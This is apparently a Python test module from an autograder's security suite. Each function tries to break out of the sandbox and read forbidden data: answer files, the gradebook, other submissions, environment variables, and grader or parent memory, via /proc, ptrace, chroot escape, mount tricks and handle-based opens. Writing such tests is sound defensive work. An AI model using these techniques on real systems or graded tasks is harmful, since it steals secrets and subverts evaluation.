"""Reading what a submission must not see: answers, the gradebook, other submissions, home, other processes' memory.

Each attack returns what it found; it succeeds if the secret is in there, or, where it looks into the parent, which need
not hold the secret, if it could look at all.
"""

from __future__ import annotations

from ..attack import amount, attack
from ..prelude import kernel, memory_of, new_namespaces

# --- files, by every way to open one ---


@attack("reading", "opens a file by its path")
def open_file(targets):
    with open(targets["secret_file"]) as file:
        return file.read()


@attack("reading", "opens a file through the os module")
def os_open_file(targets):
    import os

    return os.read(os.open(targets["secret_file"], os.O_RDONLY), 1000).decode()


@attack("reading", "has NumPy read a file")
def numpy_fromfile(targets):
    import numpy as np

    return np.fromfile(targets["secret_file"], np.uint8).tobytes().decode()


@attack("reading", "maps a file into memory")
def map_file(targets):
    import mmap
    import os

    return mmap.mmap(os.open(targets["secret_file"], os.O_RDONLY), 0, prot=mmap.PROT_READ)[:].decode()


@attack("reading", "opens a file with openat2, which a filter that knows only older calls overlooks")
def openat2_file(targets):
    import os
    import struct

    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return os.read(kernel("openat2", -100, targets["secret_file"].encode(), how, len(how)), 1000).decode()


@attack("reading", "opens the folder as a mere path, which needs no right to read, and a file from there")
def open_from_path_descriptor(targets):
    import os

    folder, name = os.path.split(targets["secret_file"])
    return os.read(os.open(name, os.O_RDONLY, dir_fd=os.open(folder, os.O_PATH)), 1000).decode()


@attack("reading", "opens a file's folder by its handle, without a path", depends="Linux 6.11")
def open_by_handle(targets):
    import ctypes
    import os

    folder, name = os.path.split(targets["secret_file"])
    new_namespaces("mount")  # whose root may use handles of folders
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
    kernel("name_to_handle_at", -100, folder.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    opened = kernel("open_by_handle_at", os.open(folder, os.O_RDONLY), handle, os.O_DIRECTORY)
    return os.read(os.open(name, os.O_RDONLY, dir_fd=opened), 1000).decode()


@attack("reading", "makes a symbolic link in its own folder and reads through it")
def symbolic_link(targets):
    import os

    os.symlink(targets["secret_file"], "mine")
    with open("mine") as file:
        return file.read()


@attack("reading", "makes a hard link in its own folder and reads that")
def hard_link(targets):
    import os

    os.link(targets["secret_file"], "mine")
    with open("mine") as file:
        return file.read()


@attack("reading", "moves a file into its own folder and reads it there")
def move_file(targets):
    import os

    os.rename(targets["secret_file"], "mine")
    with open("mine") as file:
        return file.read()


@attack("reading", "reads through /proc/self/root")
def own_root(targets):
    with open("/proc/self/root" + targets["secret_file"]) as file:
        return file.read()


@attack("reading", "climbs up from /proc/self/cwd")
def own_working_folder(targets):
    with open("/proc/self/cwd/" + "../" * 40 + targets["secret_file"]) as file:
        return file.read()


@attack("reading", "mounts a file's folder over its own and reads the file there")
def mount_over_own(targets):
    import os

    folder, name = os.path.split(targets["secret_file"])
    new_namespaces("mount")
    kernel("mount", folder.encode(), os.getcwd().encode(), None, 0x1000, None)  # bind
    with open(os.path.join(os.getcwd(), name)) as file:
        return file.read()


@attack("reading", "clones a mount that is attached nowhere and opens a file in it")
def detached_mount(targets):
    import os

    new_namespaces("mount")
    tree = kernel("open_tree", -100, os.path.dirname(targets["secret_file"]).encode(), 1)  # clone
    return os.read(os.open(os.path.basename(targets["secret_file"]), os.O_RDONLY, dir_fd=tree), 1000).decode()


@attack("reading", "leaves its root folder by a second chroot")
def chroot_escape(targets):
    import os

    new_namespaces()
    os.chroot(os.path.dirname(os.__file__))  # without entering it: the working folder is now outside the root
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    with open(targets["secret_file"]) as file:
        return file.read()


@attack("reading", "lets another program read a file")
def run_program(targets):
    import subprocess

    return subprocess.run(["cat", targets["secret_file"]], capture_output=True, text=True, timeout=5).stdout


@attack("reading", "allows itself all files by a Landlock rule of its own", depends="Landlock")
def landlock_grants_all(targets):
    import contextlib
    import os
    import struct

    ruleset = kernel("landlock_create_ruleset", struct.pack("Q", 0b1100), 8, 0)  # governs reading files and folders
    everything = struct.pack("=Qi", 0b1100, os.open("/", os.O_PATH))
    kernel("landlock_add_rule", ruleset, 1, everything, 0)
    with contextlib.suppress(OSError):
        kernel("prctl", 38, 1, 0, 0, 0)  # no new privileges: the condition for what follows
    kernel("landlock_restrict_self", ruleset, 0)
    with open(targets["secret_file"]) as file:
        return file.read()


# --- the files that matter ---


@attack("reading", "opens the gradebook with sqlite3")
def query_gradebook(targets):
    import sqlite3

    return str(
        sqlite3.connect(f"file:{targets['gradebook']}?mode=ro", uri=True).execute("select * from grades").fetchall()
    )


@attack("reading", "imports the solutions by their path")
def import_solutions(targets):
    import sys
    from pathlib import Path

    sys.dont_write_bytecode = True
    sys.path.insert(0, targets["solutions"])
    names = [path.stem for path in Path(targets["solutions"]).glob("*.py")]
    return str([vars(__import__(name)) for name in names])


@attack("reading", "reads every file of another submission")
def read_other_submission(targets):
    import os

    with os.scandir(targets["other"]) as entries:
        return str([open(entry.path).read() for entry in entries if entry.is_file()])


@attack("reading", "walks through the home folder, its hidden folders too")
def walk_home(targets):
    import os

    return str(
        [open(os.path.join(folder, name)).read() for folder, _, names in os.walk(targets["home"]) for name in names]
    )


@attack("reading", "reads the checks, solutions and recorded answers of the installed course kit", amount(1))
def read_course_kit(targets):
    import contextlib
    from pathlib import Path

    import autograder

    kit, read = Path(autograder.__file__).parent, 0
    for path in (
        kit / "checks" / "topics" / "layers.py",
        kit.parent / "solutions" / "cs231n" / "layers.py",
        kit.parent / "assignments" / "assignment1" / "checks" / "answers.npz",
    ):
        with contextlib.suppress(OSError):
            read += len(path.read_bytes()) > 0
    return read


@attack("reading", "imports the checks, to see what they will ask", amount(1))
def import_checks(targets):
    from autograder.checks.topics import layers

    return len(vars(layers))


# --- what it was born with ---


@attack("reading", "looks through the environment variables that it inherited")
def own_environment(targets):
    import os

    return str(dict(os.environ))


@attack("reading", "reads every file descriptor that it inherited")
def inherited_files(targets):
    import contextlib
    import os
    import stat

    found = []
    for descriptor in range(1024):
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.fstat(descriptor).st_mode):
                found.append(os.pread(descriptor, 1000, 0))
    return str(found)


@attack("reading", "opens a file from an inherited descriptor of its folder")
def inherited_folders(targets):
    import contextlib
    import os
    import stat

    for descriptor in range(1024):
        with contextlib.suppress(OSError):
            if stat.S_ISDIR(os.fstat(descriptor).st_mode):
                return os.read(
                    os.open(os.path.basename(targets["secret_file"]), os.O_RDONLY, dir_fd=descriptor), 1000
                ).decode()
    return None


# --- other processes, by what /proc says of them ---


@attack("reading", "reads the command lines of all processes")
def command_lines(targets):
    import os

    return str([open(f"/proc/{name}/cmdline", "rb").read() for name in os.listdir("/proc") if name.isdigit()])


@attack("reading", "reads another process's environment")
def environment_of_process(targets):
    with open(f"/proc/{targets['pid']}/environ") as file:
        return file.read()


@attack("reading", "reads the grader's environment")
def environment_of_grader(targets):
    with open(f"/proc/{targets['grader']}/environ") as file:
        return file.read()


@attack("reading", "reads the files in another process's working folder")
def working_folder_of_process(targets):
    import os

    folder = f"/proc/{targets['pid']}/cwd/"
    return str([open(folder + name).read() for name in os.listdir(folder) if os.path.isfile(folder + name)])


@attack("reading", "reads a file under another process's root")
def root_of_process(targets):
    with open(f"/proc/{targets['pid']}/root{targets['secret_file']}") as file:
        return file.read()


@attack("reading", "reads a file under its parent's root, which may show more than its own")
def root_of_parent(targets):
    import os

    with open(f"/proc/{os.getppid()}/root{targets['secret_file']}") as file:
        return file.read()


@attack("reading", "reopens the files that another process has open")
def open_files_of_process(targets):
    import contextlib
    import os
    from pathlib import Path

    folder, found = f"/proc/{targets['pid']}/fd/", []
    for name in os.listdir(folder):
        with contextlib.suppress(OSError):
            if os.path.isfile(folder + name):
                found.append(Path(folder, name).read_text(errors="replace"))
    return str(found)


@attack("reading", "reads another process's memory through /proc")
def memory_file_of_process(targets):
    with open(f"/proc/{targets['pid']}/mem", "rb", 0) as memory:
        memory.seek(targets["memory_address"])
        return memory.read(100).decode("latin-1")


@attack("reading", "searches all of another process's memory for what looks like the secret")
def search_memory_of_process(targets):
    import contextlib

    found = []
    with open(f"/proc/{targets['pid']}/maps") as maps, open(f"/proc/{targets['pid']}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(address, 16) for address in line.split()[0].split("-"))
            with contextlib.suppress(OSError, OverflowError):
                memory.seek(start)
                _, *parts = memory.read(end - start).decode("latin-1").split(targets["mark"])
                found += [targets["mark"] + part[:50] for part in parts[:20]]
    return str(found)


@attack("reading", "reads its parent's memory through /proc", amount(1))
def memory_file_of_parent(targets):
    import os

    with open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
        memory.seek(memory_of(os.getppid()))
        return len(memory.read(8))


# --- other processes, by system calls ---


@attack("reading", "copies another process's memory with process_vm_readv")
def copy_memory(targets):
    import ctypes
    import struct

    copy = ctypes.create_string_buffer(100)
    here, there = (struct.pack("NN", at, 100) for at in (ctypes.addressof(copy), targets["memory_address"]))
    kernel("process_vm_readv", targets["pid"], here, 1, there, 1, 0)
    return copy.raw.decode("latin-1")


@attack("reading", "traces another process as a debugger and reads its memory word by word")
def trace_process(targets):
    import ctypes
    import os

    memory = b""
    kernel("ptrace", 16, targets["pid"], 0, 0)  # attach
    os.waitpid(targets["pid"], 0x40000000)
    for address in range(targets["memory_address"], targets["memory_address"] + 100, 8):
        word = ctypes.c_long()
        kernel("ptrace", 2, targets["pid"], address, ctypes.byref(word))  # peek
        memory += bytes(word)
    kernel("ptrace", 17, targets["pid"], 0, 0)  # detach
    return memory.decode("latin-1")


@attack("reading", "traces the grader", amount(1))
def trace_grader(targets):
    import os

    kernel("ptrace", 0x4206, targets["grader"], 0, 0)  # seize: it goes on running
    kernel("ptrace", 0x4207, targets["grader"], 0, 0)  # interrupt
    os.waitpid(targets["grader"], 0x40000000)
    kernel("ptrace", 17, targets["grader"], 0, 0)  # detach
    return 1


@attack("reading", "traces its parent", amount(1))
def trace_parent(targets):
    import os

    kernel("ptrace", 0x4206, os.getppid(), 0, 0)  # seize: it goes on running
    kernel("ptrace", 0x4207, os.getppid(), 0, 0)  # interrupt
    os.waitpid(os.getppid(), 0x40000000)
    kernel("ptrace", 17, os.getppid(), 0, 0)  # detach
    return 1


@attack("reading", "takes another process's open files over")
def take_open_files(targets):
    import contextlib
    import os

    process, found = os.pidfd_open(targets["pid"]), []
    for number in range(20):
        with contextlib.suppress(OSError):
            found.append(os.pread(kernel("pidfd_getfd", process, number, 0), 1000, 0))
    return str(found)


@attack("reading", "attaches another process's shared memory")
def shared_memory(targets):
    import ctypes

    return ctypes.string_at(kernel("shmat", targets["shm_id"], 0, 0o10000)).decode()
